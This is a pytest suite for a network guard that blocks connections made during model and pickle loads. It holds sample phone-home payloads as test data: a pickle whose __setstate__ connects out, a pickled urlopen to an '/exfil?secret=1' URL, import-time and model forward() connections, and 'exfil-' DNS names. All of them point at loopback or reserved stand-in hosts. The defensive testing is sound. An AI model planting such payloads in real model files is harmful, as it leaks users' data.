"""The network guard on real loopback servers (127.0.0.1 / ::1 only, started by the tests).

Every blocked path is shown both ways: with the guard off the server records the connection (the
test can fail), with it on it records none. "None" is made exact with a sentinel: after the attempt,
application code connects once; the server's record must then hold the sentinel and nothing else
(a listening socket's accept queue is first in, first out).
"""
from __future__ import annotations

import asyncio
import errno
import http.client
import http.server
import importlib
import os
import pickle
import secrets
import socket
import sys
import threading
import time
import urllib.error
import urllib.request

import _socket
import pytest

import artifacts as A
import tmtguard
from conftest import write_allowlist
from tmtguard import provenance
from tmtguard.policy import Policy, parse, parse_net_rule


# --- loopback servers --------------------------------------------------------------------------------


def _wait(predicate, timeout=5.0):
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.005)
    return True


class TCPServer:
    """Accepts and closes; records each client's address."""

    def __init__(self, host="127.0.0.1", family=socket.AF_INET):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, 0))
        self.sock.listen(512)
        self.sock.settimeout(0.1)
        self.address = self.sock.getsockname()[:2]
        self.port = self.address[1]
        self.peers: list = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, peer = self.sock.accept()
            except (socket.timeout, BlockingIOError):
                continue
            except OSError:
                return
            self.peers.append(peer[:2])
            conn.close()

    def sentinel(self):
        """Connect once from tmtguard's own context (never checked) and wait until it is recorded."""
        with provenance.internal():
            s = socket.create_connection(self.address, timeout=5)
        mine = s.getsockname()[:2]
        s.close()
        assert _wait(lambda: mine in self.peers), "the sentinel connection was not recorded"
        return mine

    def assert_untouched(self):
        mine = self.sentinel()
        assert self.peers == [mine], f"the server recorded connections besides the sentinel: {self.peers}"
        self.peers.clear()

    def close(self):
        self._stop = True
        self._thread.join(2)
        self.sock.close()


class UDPServer:
    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.1)
        self.address = self.sock.getsockname()
        self.datagrams: list = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            try:
                data, _ = self.sock.recvfrom(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            self.datagrams.append(data)

    def assert_untouched(self):
        with provenance.internal():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"sentinel", self.address)
            s.close()
        assert _wait(lambda: b"sentinel" in self.datagrams)
        assert self.datagrams == [b"sentinel"], self.datagrams
        self.datagrams.clear()

    def close(self):
        self._stop = True
        self._thread.join(2)
        self.sock.close()


class HTTPServer:
    def __init__(self):
        paths = self.paths = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                paths.append(self.path)
                body = b"ok"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self._thread.start()

    def assert_untouched(self):
        with provenance.internal():
            urllib.request.urlopen(self.url + "/sentinel", timeout=5).read()
        assert self.paths == ["/sentinel"], self.paths
        self.paths.clear()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server():
    s = TCPServer()
    yield s
    s.close()


@pytest.fixture
def server2():
    s = TCPServer()
    yield s
    s.close()


@pytest.fixture
def udp():
    s = UDPServer()
    yield s
    s.close()


@pytest.fixture
def web():
    s = HTTPServer()
    yield s
    s.close()


@pytest.fixture
def module_dir(tmp_path, monkeypatch):
    """A folder on sys.path for modules the test writes; each name is unique to the test."""
    monkeypatch.syspath_prepend(str(tmp_path))
    created = []

    def write(stem: str, source: str):
        name = f"{stem}_{secrets.token_hex(4)}"
        path = tmp_path / f"{name}.py"
        path.write_text(source)
        created.append(name)
        return name, str(path)

    yield write
    for name in created:
        sys.modules.pop(name, None)


def allowlist(tmp_path, *rules, process_wide=None, extra=""):
    lines = ["version: 1", "network:"]
    if process_wide is not None:
        lines.append(f"  process_wide: {'true' if process_wide else 'false'}")
    lines.append("  allow: [" + ", ".join(f"'{r}'" for r in rules) + "]")
    return write_allowlist(tmp_path / f"net-{secrets.token_hex(3)}.yaml", "\n".join(lines) + "\n" + extra)


def connect(address, timeout=5):
    s = socket.create_connection(address, timeout=timeout)
    s.close()


# --- a pickle, a module imported during a load, model code at inference -----------------------------

PHONEHOME = """
import socket

class Telemetry:
    def __setstate__(self, state):
        self.__dict__.update(state)
        socket.create_connection(("127.0.0.1", state["port"]), timeout=5).close()
"""


def test_pickle_payload_connect_blocked(guard, server, module_dir, tmp_path):
    name, path = module_dir("phonehome", PHONEHOME)
    mod = importlib.import_module(name)
    obj = mod.Telemetry.__new__(mod.Telemetry)
    obj.__dict__["port"] = server.port
    data = pickle.dumps(obj, protocol=4)
    rules = write_allowlist(tmp_path / "pickle.yaml", f"version: 1\npickle:\n  allow: ['{name}:Telemetry']\n")

    tmtguard.deactivate()
    pickle.loads(data)
    assert _wait(lambda: len(server.peers) == 1), "the payload must really connect when unguarded"
    server.peers.clear()

    events = guard(allowlists=[rules])
    with pytest.raises(tmtguard.NetworkViolation) as info:
        pickle.loads(data)
    server.assert_untouched()
    err = info.value
    assert isinstance(err, ConnectionRefusedError) and isinstance(err, OSError) and err.errno == errno.ECONNREFUSED
    text = str(err)
    assert f"network.connect '127.0.0.1:{server.port}'" in text
    assert "pickle.loads(<bytes:" in text
    assert f'a guarded load tried to use socket.create_connection() with host "127.0.0.1" port {server.port}' in text
    assert "allowed: nothing" in text
    assert f"- '127.0.0.1:{server.port}'" in text, "the message names the allowlist line that would permit it"
    [ev] = [e for e in events if e["action"] == "network.connect"]
    assert ev["decision"] == "blocked" and ev["target"] == f"127.0.0.1:{server.port}"
    assert ev["chain"][0]["loader"] == "pickle.loads" and len(ev["chain"][0]["sha256"]) == 64
    assert ev["origin"]["file"] == path and ev["origin"]["function"] == "__setstate__"
    assert ev["detail"]["call"] == "socket.create_connection()" and "via" not in ev["detail"]


def test_pickled_urlopen_blocked(guard, web, tmp_path):
    data = A.dumps(A.call(A.glob("urllib.request", "urlopen"), web.url + "/exfil?secret=1", None, 5))
    rules = write_allowlist(tmp_path / "pickle.yaml", "version: 1\npickle:\n  allow: ['urllib.request:urlopen']\n")

    tmtguard.deactivate()
    pickle.loads(data).read()
    assert web.paths == ["/exfil?secret=1"]
    web.paths.clear()

    events = guard(allowlists=[rules])
    with pytest.raises(urllib.error.URLError) as info:
        pickle.loads(data)
    assert isinstance(info.value.reason, tmtguard.NetworkViolation), "urllib's own error handling wraps it"
    web.assert_untouched()
    [ev] = [e for e in events if e["action"] == "network.connect"]
    assert ev["detail"]["via"] == "urllib.request.urlopen()"


IMPORT_TIME = """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
VALUE = 1
"""


def test_module_imported_during_a_load_blocked(guard, server, module_dir, tmp_path):
    name, path = module_dir("nethook", IMPORT_TIME.format(port=server.port))

    tmtguard.deactivate()
    importlib.import_module(name)
    assert _wait(lambda: len(server.peers) == 1)
    server.peers.clear()
    sys.modules.pop(name)

    # the import itself is allowed (the imports guard would otherwise stop it first): its connect is not
    rules = write_allowlist(tmp_path / "imports.yaml", f"version: 1\nimports:\n  allow: ['{name}']\n")
    events = guard(allowlists=[rules])
    # remote code imports its dependencies while it loads (what check_imports does in transformers)
    with tmtguard.guarded_load("remote_code", str(tmp_path / "modeling_x.py"), repo="org/model"):
        with pytest.raises(tmtguard.NetworkViolation, match="remote_code"):
            importlib.import_module(name)
    server.assert_untouched()
    [ev] = events
    assert ev["chain"] == [{"loader": "remote_code", "artifact": str(tmp_path / "modeling_x.py"), "sha256": None,
                            "repo": "org/model"}]
    assert ev["origin"]["file"] == path and ev["origin"]["module"] == name
    assert "repo: org/model" in ev["allowlist"], "the suggestion can scope the rule to that repository"

    # a pickle whose global names the module: the import runs inside the load and is refused too
    sys.modules.pop(name, None)
    rules = write_allowlist(tmp_path / "pickle.yaml",
                            f"version: 1\npickle:\n  allow: ['{name}:VALUE']\nimports:\n  allow: ['{name}']\n")
    guard(allowlists=[rules])
    with pytest.raises(tmtguard.NetworkViolation):
        pickle.loads(A.dumps(A.glob(name, "VALUE")))
    server.assert_untouched()


def _unregister_model_code(frame):
    # the test's own cleanup: forget every registration that carries this load's chain
    for table in (provenance._model_code, getattr(provenance, "_model_folders", {})):
        for key in [k for k, chain in table.items() if frame in chain]:
            del table[key]


MODEL = """
import socket

class Model:
    def forward(self, x):
        s = socket.create_connection(("127.0.0.1", {port}), timeout=5)
        s.sendall(repr(x).encode())
        s.close()
        return x
"""


def test_model_forward_at_inference_blocked(guard, server, module_dir, tmp_path):
    name, path = module_dir("netmodel", MODEL.format(port=server.port))
    model = importlib.import_module(name).Model()
    load = provenance.LoadFrame("torch.hub.load", str(tmp_path / "hubconf.py"), path=str(tmp_path / "hubconf.py"))
    provenance.register_model_code(path, (load,))
    try:
        tmtguard.deactivate()
        assert model.forward([1, 2]) == [1, 2]
        assert _wait(lambda: len(server.peers) == 1)
        server.peers.clear()

        events = guard()
        with pytest.raises(tmtguard.NetworkViolation) as info:
            model.forward([3, 4])  # called by the application, long after the load returned
        server.assert_untouched()
        assert "model code tried to use socket.create_connection()" in str(info.value)
        assert "torch.hub.load(" in str(info.value)
        [ev] = events
        assert ev["origin"]["file"] == path and ev["origin"]["function"] == "forward"
        assert ev["origin"]["line"] == 6
    finally:
        _unregister_model_code(load)


# --- through urllib, http.client, asyncio, requests -------------------------------------------------


def test_http_client_blocked(guard, web):
    def get():
        conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=5)
        conn.request("GET", "/leak")
        conn.getresponse().read()
        conn.close()

    tmtguard.deactivate()
    get()
    assert web.paths == ["/leak"]
    web.paths.clear()
    guard()
    with tmtguard.guarded_load("test.load", "weights.bin"):
        with pytest.raises(tmtguard.NetworkViolation, match=r"through http\.client\.HTTPConnection\.request\(\)"):
            get()
        with pytest.raises(urllib.error.URLError):
            urllib.request.urlopen(web.url + "/leak2", timeout=5)
    web.assert_untouched()


def test_requests_blocked(guard, web):
    requests = pytest.importorskip("requests")
    tmtguard.deactivate()
    assert requests.get(web.url + "/r", timeout=5).text == "ok"
    web.paths.clear()
    guard()
    with tmtguard.guarded_load("test.load", "weights.bin"):
        with pytest.raises(requests.exceptions.ConnectionError) as info:
            requests.get(web.url + "/r", timeout=5)
    assert "tmtguard blocked network.connect" in str(info.value)
    web.assert_untouched()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self):
        self.errors = []

    def error_received(self, exc):
        self.errors.append(exc)


async def _asyncio_attempts(address, udp_address):
    loop = asyncio.get_running_loop()
    outcomes = {}
    try:
        _, writer = await asyncio.open_connection(*address)
        writer.close()
        outcomes["open_connection"] = "connected"
    except OSError as exc:
        outcomes["open_connection"] = exc
    sock = socket.socket()
    sock.setblocking(False)
    try:
        await loop.sock_connect(sock, address)
        outcomes["sock_connect"] = "connected"
    except OSError as exc:
        outcomes["sock_connect"] = exc
    sock.close()
    try:
        transport, _ = await loop.create_datagram_endpoint(_Datagrams, remote_addr=udp_address)
        transport.sendto(b"connected-datagram")
        transport.close()
        outcomes["datagram_remote"] = "sent"
    except OSError as exc:
        outcomes["datagram_remote"] = exc
    transport, proto = await loop.create_datagram_endpoint(_Datagrams, local_addr=("127.0.0.1", 0))
    transport.sendto(b"datagram", udp_address)
    await asyncio.sleep(0)
    transport.close()
    outcomes["datagram_sendto"] = proto.errors[0] if proto.errors else "sent"
    return outcomes


def test_asyncio_blocked(guard, server, udp):
    tmtguard.deactivate()
    outcomes = asyncio.run(_asyncio_attempts(server.address, udp.address))
    assert outcomes == {"open_connection": "connected", "sock_connect": "connected",
                        "datagram_remote": "sent", "datagram_sendto": "sent"}
    assert _wait(lambda: len(server.peers) == 2 and len(udp.datagrams) == 2)
    server.peers.clear()
    udp.datagrams.clear()

    guard()
    with tmtguard.guarded_load("test.load", "weights.bin"):
        outcomes = asyncio.run(_asyncio_attempts(server.address, udp.address))  # the task inherits the chain
    for what, outcome in outcomes.items():
        assert isinstance(outcome, tmtguard.NetworkViolation), (what, outcome)
    server.assert_untouched()
    udp.assert_untouched()


# --- permitted by the matching rule -----------------------------------------------------------------


def test_permitted_by_matching_rule(guard, server, server2, tmp_path):
    events = guard(allowlists=[allowlist(tmp_path, f"127.0.0.1:{server.port}")])
    with tmtguard.guarded_load("test.load", "weights.bin"):
        connect(server.address)
        with pytest.raises(tmtguard.NetworkViolation) as info:
            connect(server2.address)
        with pytest.raises(tmtguard.NetworkViolation):  # raised, not returned as an error number
            socket.socket().connect_ex(server2.address)
    assert _wait(lambda: len(server.peers) == 1)
    server2.assert_untouched()
    assert f'allowed: "127.0.0.1:{server.port}" (' in str(info.value) and ".yaml:3)" in str(info.value)
    assert [e["target"] for e in events] == [f"127.0.0.1:{server2.port}"]


def test_permitted_by_cidr_name_and_ipv6_rules(guard, server, tmp_path):
    guard(allowlists=[allowlist(tmp_path, "127.0.0.0/8:*")])
    with tmtguard.guarded_load("test.load", "weights.bin"):
        connect(server.address)
    # a name rule: the lookup is allowed, and so is the connect to the address it resolved to
    guard(allowlists=[allowlist(tmp_path, f"localhost:{server.port}")])
    with tmtguard.guarded_load("test.load", "weights.bin"):
        connect(("localhost", server.port))
        with pytest.raises(tmtguard.NetworkViolation):
            connect(("127.0.0.1", server.port + 1 if server.port < 65535 else 1))
    assert _wait(lambda: len(server.peers) == 2)
    v6 = TCPServer("::1", socket.AF_INET6)
    try:
        guard(allowlists=[allowlist(tmp_path, f"[::1]:{v6.port}")])
        with tmtguard.guarded_load("test.load", "weights.bin"):
            connect(("::1", v6.port))
            with pytest.raises(tmtguard.NetworkViolation, match=r'allowed: "\[::1\]:'):
                connect(server.address)
        assert _wait(lambda: len(v6.peers) == 1)
    finally:
        v6.close()


def test_scoped_rule_permits_only_its_artifact(guard, server, tmp_path):
    model = tmp_path / "good.bin"
    extra = f"artifacts:\n  - match: {{path: '{model}'}}\n    network:\n      allow: ['127.0.0.1:{server.port}']\n"
    guard(allowlists=[write_allowlist(tmp_path / "scoped.yaml", "version: 1\n" + extra)])
    with tmtguard.guarded_load("test.load", str(model)):
        connect(server.address)
    with tmtguard.guarded_load("test.load", str(tmp_path / "other.bin")):
        with pytest.raises(tmtguard.NetworkViolation) as info:
            connect(server.address)
    assert _wait(lambda: len(server.peers) == 1)
    # the suggested lines are valid allowlist YAML
    suggested = info.value.decision.suggestion
    parse("version: 1\n" + suggested.replace("# or, only for this artifact:\n", ""), "<suggestion>")


# --- DNS: a name no rule allows is refused before any query ------------------------------------------

_queries: list = []


def _count_queries(event, args):
    if event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr", "socket.getnameinfo"):
        host = args[0][0] if event == "socket.getnameinfo" else args[0]
        if isinstance(host, bytes):
            host = host.decode()
        if isinstance(host, str) and ("exfil-" in host or host == "203.0.113.7"):
            _queries.append((event, host))


sys.addaudithook(_count_queries)  # CPython raises these events in C right before it queries


def test_dns_names_refused_without_a_query(guard, events):
    name = f"exfil-{secrets.token_hex(6)}.example.invalid"
    tmtguard.deactivate()
    _queries.clear()
    with pytest.raises(socket.gaierror):
        socket.getaddrinfo(name, 80)
    assert _queries == [("socket.getaddrinfo", name)], "the counter sees a real query when unguarded"
    _queries.clear()

    guard()

    async def via_asyncio():
        await asyncio.open_connection(name, 80)

    attempts = {
        "getaddrinfo": lambda: socket.getaddrinfo(name, 80),
        "gethostbyname": lambda: socket.gethostbyname(name),
        "gethostbyname_ex": lambda: socket.gethostbyname_ex(name),
        "create_connection": lambda: socket.create_connection((name, 80)),
        "connect": lambda: socket.socket().connect((name, 80)),  # C would resolve inside connect
        "sendto": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (name, 53)),
        "http.client": lambda: http.client.HTTPConnection(name, 80).request("GET", "/"),
        "urllib": lambda: urllib.request.urlopen(f"http://{name}/"),
        "asyncio": lambda: asyncio.run(via_asyncio()),
        "reverse lookup": lambda: socket.gethostbyaddr("203.0.113.7"),
        "getnameinfo": lambda: socket.getnameinfo(("203.0.113.7", 80), 0),
        "bound before (audit event)": lambda: _socket.getaddrinfo(name, 80),
    }
    with tmtguard.guarded_load("test.load", "weights.bin"):
        for what, attempt in attempts.items():
            with pytest.raises(OSError) as info:
                attempt()
            err = info.value.reason if isinstance(info.value, urllib.error.URLError) else info.value
            assert isinstance(err, tmtguard.NetworkViolation), (what, err)
    assert _queries == [], f"a lookup reached the resolver: {_queries}"
    resolves = [e for e in events if e["action"] == "network.resolve"]
    assert {e["target"] for e in resolves} == {name, "203.0.113.7"}
    first = next(e for e in resolves if e["target"] == name)
    assert first["detail"]["call"] == "socket.getaddrinfo()" and first["detail"]["port"] == 80


def test_dns_prebound_lookup_refused_by_the_audit_event(guard, events):
    name = f"exfil-{secrets.token_hex(6)}.example.invalid"
    with tmtguard.guarded_load("test.load", "weights.bin"):
        with pytest.raises(tmtguard.NetworkViolation):
            _socket.gethostbyname(name)
    [ev] = events
    assert ev["action"] == "network.resolve" and ev["detail"]["call"] == "socket.gethostbyname (audit event)"


def test_allowed_name_is_looked_up(guard, tmp_path):
    guard(allowlists=[allowlist(tmp_path, "localhost:*")])
    with tmtguard.guarded_load("test.load", "weights.bin"):
        assert socket.gethostbyname("localhost") == "127.0.0.1"
        assert socket.getaddrinfo("localhost", 80)


# --- the application's own connections --------------------------------------------------------------


def test_application_untouched_by_default(guard, server):
    events = guard()
    connect(server.address)
    assert _wait(lambda: len(server.peers) == 1)
    assert socket.gethostbyname("localhost") == "127.0.0.1"
    assert events == []


def test_process_wide_applies_to_the_application(guard, server, server2, tmp_path):
    events = guard(allowlists=[allowlist(tmp_path, f"127.0.0.1:{server.port}", process_wide=True)])
    connect(server.address)
    with pytest.raises(tmtguard.NetworkViolation) as info:
        connect(server2.address)
    assert "application code (network.process_wide is on)" in str(info.value)
    assert "chain: (no guarded load on this thread)" in str(info.value)
    assert _wait(lambda: len(server.peers) == 1)
    server2.assert_untouched()
    [ev] = events
    assert ev["chain"] == [] and ev["origin"]["file"] == __file__
    # tmtguard's own work (its telemetry export) is never checked
    with provenance.internal():
        connect(server2.address)
    assert _wait(lambda: len(server2.peers) == 1)


def test_audit_mode_records_once_and_connects(guard, server):
    events = guard(mode="audit")
    with tmtguard.guarded_load("test.load", "weights.bin"):
        connect(server.address)
    assert _wait(lambda: len(server.peers) == 1)
    assert [(e["decision"], e["action"]) for e in events] == [("audited", "network.connect")]


# --- sockets made before activation, references bound before it --------------------------------------


def test_sockets_created_before_activation(guard, server, tmp_path):
    tmtguard.deactivate()
    plain = socket.socket()
    bypass = socket.socket()
    raw = _socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    bound = socket.socket()
    bound_connect = bound.connect  # the C method, bound before the guard started
    events = guard()
    for what, attempt in [("plain", lambda: plain.connect(server.address)),
                          ("C method", lambda: _socket.socket.connect(bypass, server.address)),
                          ("raw _socket", lambda: raw.connect(server.address)),
                          ("bound method", lambda: bound_connect(server.address))]:
        with tmtguard.guarded_load("test.load", f"{what}.bin"):  # one load each: one event each
            with pytest.raises(tmtguard.NetworkViolation):
                attempt()
    for s in (plain, bypass, raw, bound):
        assert s.fileno() == -1, "a refused connect closes the socket"
    server.assert_untouched()
    calls = [e["detail"]["call"] for e in events]
    assert calls == ["socket.socket.connect()"] + ["socket.connect (audit event)"] * 3


# --- concurrency, descriptors, UDP, unix sockets -----------------------------------------------------


def test_16_threads_connecting_at_once(guard, server):
    events = guard()
    per_thread = 25
    barrier = threading.Barrier(16)
    results = [None] * 16

    def work(i):
        refused = 0
        barrier.wait()
        if i % 2:
            for _ in range(per_thread):
                connect(server.address)
        else:
            with tmtguard.guarded_load("thread.load", f"artifact-{i}.bin"):
                for _ in range(per_thread):
                    try:
                        connect(server.address)
                    except tmtguard.NetworkViolation:
                        refused += 1
        results[i] = refused

    threads = [threading.Thread(target=work, args=(i,)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert results == [per_thread if i % 2 == 0 else 0 for i in range(16)]
    assert _wait(lambda: len(server.peers) >= 8 * per_thread)
    mine = server.sentinel()
    assert len(server.peers) == 8 * per_thread + 1 and server.peers[-1] == mine
    assert sorted(e["chain"][0]["artifact"] for e in events) == sorted(
        os.path.abspath(f"artifact-{i}.bin") for i in range(0, 16, 2))


def test_no_descriptor_leaked_after_10000_refusals(guard, server):
    guard()
    before = len(os.listdir("/proc/self/fd"))
    kept = []
    with tmtguard.guarded_load("test.load", "weights.bin"):
        for _ in range(10_000):
            s = socket.socket()
            kept.append(s)  # kept alive: only the guard's close can free the descriptor
            try:
                s.connect(server.address)
            except tmtguard.NetworkViolation:
                pass
    assert len(os.listdir("/proc/self/fd")) <= before + 1
    assert all(s.fileno() == -1 for s in kept)
    server.assert_untouched()


def test_udp_sendto_and_sendmsg_blocked(guard, udp, tmp_path):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tmtguard.deactivate()
    s.sendto(b"exfil", udp.address)
    assert _wait(lambda: udp.datagrams == [b"exfil"])
    udp.datagrams.clear()
    events = guard()
    with tmtguard.guarded_load("test.load", "weights.bin"):
        with pytest.raises(tmtguard.NetworkViolation, match="network.send"):
            s.sendto(b"exfil", udp.address)
        with pytest.raises(tmtguard.NetworkViolation):
            s.sendto(b"exfil", 0, udp.address)
        with pytest.raises(tmtguard.NetworkViolation):
            s.sendmsg([b"exfil"], [], 0, udp.address)
        with pytest.raises(tmtguard.NetworkViolation):
            _socket.socket.sendto(s, b"exfil", udp.address)  # the C method: the audit event
        with pytest.raises(tmtguard.NetworkViolation, match="network.connect"):
            s.connect(udp.address)
    udp.assert_untouched()
    assert events[0]["action"] == "network.send" and events[0]["target"] == f"127.0.0.1:{udp.address[1]}"
    # permitted by its rule
    guard(allowlists=[allowlist(tmp_path, f"127.0.0.1:{udp.address[1]}")])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with tmtguard.guarded_load("test.load", "weights.bin"):
        s.sendto(b"allowed", udp.address)
    s.close()
    assert _wait(lambda: b"allowed" in udp.datagrams)


def test_unix_socket_rules(guard, tmp_path):
    path = str(tmp_path / "agent.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    srv.listen(4)
    try:
        guard()
        with tmtguard.guarded_load("test.load", "weights.bin"):
            c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            with pytest.raises(tmtguard.NetworkViolation, match=f"unix:{path}"):
                c.connect(path)
            assert c.fileno() == -1
        guard(allowlists=[allowlist(tmp_path, f"unix:{path}")])
        with tmtguard.guarded_load("test.load", "weights.bin"):
            c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            c.connect(path)
            c.close()
    finally:
        srv.close()


# --- rules (pure) -----------------------------------------------------------------------------------


def test_net_rule_forms():
    assert parse_net_rule("[::1]:8080").matches("::1", 8080)
    assert parse_net_rule("[fd00::/8]:*").matches("fd00::5", 1)
    assert parse_net_rule("10.0.0.0/8:443").matches("::ffff:10.1.2.3", 443), "IPv4-mapped IPv6"
    assert parse_net_rule("Bücher.Example:443").matches("xn--bcher-kva.example.", 443), "IDNA, case, trailing dot"
    assert parse_net_rule("*.example.com:443").matches_host("a.b.example.com")
    assert not parse_net_rule("*.example.com:443").matches_host("example.com")
    assert not parse_net_rule("api.example.com:443").matches_host("127.0.0.1")
    assert not parse_net_rule("127.0.0.1:80").matches_host("localhost"), "names and addresses never mix"
    assert not parse_net_rule("unix:/run/a.sock").matches_host("/run/a.sock")
    assert parse_net_rule("unix:@abstract").matches("@abstract", None)
    for bad, reason in [("::1:80", "brackets"), ("exa mple.com:80", "not a host name"),
                        ("*.bad_*.com:1", "wildcard"), ("a..b:1", "not a host name"), ("[::1]80", "IPv6")]:
        with pytest.raises(ValueError, match=reason):
            parse_net_rule(bad)


def test_policy_name_lookup_and_rules_listing(tmp_path):
    policy = Policy.from_files([allowlist(tmp_path, "api.example.com:443", "10.0.0.0/8:*")], builtins=False)
    assert policy.network_name_allowed("API.example.com", ()) is not None
    assert policy.network_name_allowed("other.example.com", ()) is None
    assert [r.text for r, _ in policy.network_rules(())] == ["api.example.com:443", "10.0.0.0/8:*"]


# --- the C gate in front of the patches ----------------------------------------------------------------------


@pytest.mark.skipif(not tmtguard.status().get("audit_hook") == "C", reason="the C extension was not built")
def test_gated_call_takes_the_original_only_when_the_guard_would_not_act(guard):
    """Gated(original, guarded, scope): application code's connect costs a C call; inside a load or
    with model code on the stack, the guard's function runs (it makes its own test too)."""
    from tmtguard import _auditfast
    from tmtguard.guards import _audit

    assert type(socket.socket.__dict__["connect"]) is _auditfast.Gated
    calls = []

    class Sock:
        pass

    Sock.connect = _auditfast.Gated(lambda self, a: calls.append(("original", self, a)),
                                    lambda self, a: calls.append(("guarded", self, a)), _audit.NET_WIDE)
    s = Sock()
    s.connect(1)  # bound like a function: the instance comes first
    with tmtguard.guarded_load("custom.load", "/nonexistent/model.bin"):
        s.connect(2)
    Sock.connect(s, 3)
    key = "/nonexistent/model_code.py"
    model = {"__file__": key, "s": s}
    exec("def forward():\n    s.connect(4)\n", model)  # a function of that (model code) module
    provenance._model_code[key] = ()
    try:
        model["forward"]()  # model code on the stack: the guard decides
        s.connect(5)  # model code exists, but application code connects: settled in C
    finally:
        del provenance._model_code[key]
    assert calls == [("original", s, 1), ("guarded", s, 2), ("original", s, 3), ("guarded", s, 4),
                     ("original", s, 5)]
    with pytest.raises(TypeError):
        _auditfast.Gated(len, 42, _audit.NET_WIDE)
